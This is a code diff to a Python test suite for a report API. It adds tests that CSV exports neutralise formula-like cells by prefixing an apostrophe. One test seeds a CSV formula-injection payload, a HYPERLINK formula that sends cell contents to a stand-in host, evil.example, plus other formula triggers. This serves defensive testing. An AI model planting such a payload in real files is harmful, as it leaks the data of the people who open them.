@@ -21,6 +21,7 @@ from sqlalchemy import Date, cast, func, select
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from shared.models import Audit, Decision, Market, Verdict
+from shared.reports.exports import FORMULA_TRIGGERS, spreadsheet_safe
 from shared.reports.rows import accuracy_row, column_headers, report_window
 from shared.stats.intervals import wilson_interval
 from tests.conftest import SignedSender, auth, decision_event, make_key
@@ -462,9 +463,10 @@ async def test_csv_holds_the_json_rows(
     assert response.text.startswith("key,audited,correct,accuracy,ci_low,ci_high\r\n")
     parsed = list(csv.reader(io.StringIO(response.text)))
     assert parsed[0] == ["key", "audited", "correct", "accuracy", "ci_low", "ci_high"]
-    assert [row[0] for row in parsed[1:]] == ["=1+1", "mod-a", "mod-b"]
+    # The formula-like key is neutralised (see test_csv_cells_never_run_as_formulas).
+    assert [row[0] for row in parsed[1:]] == ["'=1+1", "mod-a", "mod-b"]
     for line, row in zip(parsed[1:], rows, strict=True):
-        assert line[0] == row["key"]
+        assert line[0] == spreadsheet_safe(row["key"])
         assert int(line[1]) == row["audited"]
         assert int(line[2]) == row["correct"]
         assert [float(value) for value in line[3:]] == [
@@ -472,6 +474,41 @@ async def test_csv_holds_the_json_rows(
             row["ci_low"],
             row["ci_high"],
         ]
+
+
+@pytest.mark.no_db
+def test_spreadsheet_safe_neutralises_text_only() -> None:
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "-0.5"):
+        assert spreadsheet_safe(text) == "'" + text
+    for text in ("mod-a", "", "1", "a=b", "'=1"):
+        assert spreadsheet_safe(text) == text
+    # Numbers are ours, not user text: they stay numbers, negative ones included.
+    for number in (-0.5, -3, 0, 0.25):
+        assert spreadsheet_safe(number) == number
+
+
+async def test_csv_cells_never_run_as_formulas(
+    sender: SignedSender,
+    client: httpx.AsyncClient,
+    admin_key: str,
+    sessionmaker: async_sessionmaker[AsyncSession],
+) -> None:
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+    keys = [hyperlink, "+1+1", "-2+3", "@SUM(B2:B9)", "mod-plain"]
+    await seed(sender, sessionmaker, [Case(key, "correct") for key in keys])
+    response = await client.get(
+        REPORT,
+        params={"group_by": "moderator", "format": "csv", **WINDOW},
+        headers=auth(admin_key),
+    )
+    assert response.status_code == 200, response.text
+    parsed = list(csv.reader(io.StringIO(response.text)))
+    cells = {line[0] for line in parsed[1:]}
+    assert cells == {"'" + key for key in keys[:-1]} | {"mod-plain"}
+    for line in parsed[1:]:
+        # No cell a spreadsheet would compute; the numbers are still plain numbers.
+        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in line)
+        assert (int(line[1]), int(line[2]), float(line[3])) == (1, 1, 1.0)
 
 
 async def test_csv_of_an_empty_report_is_its_header(
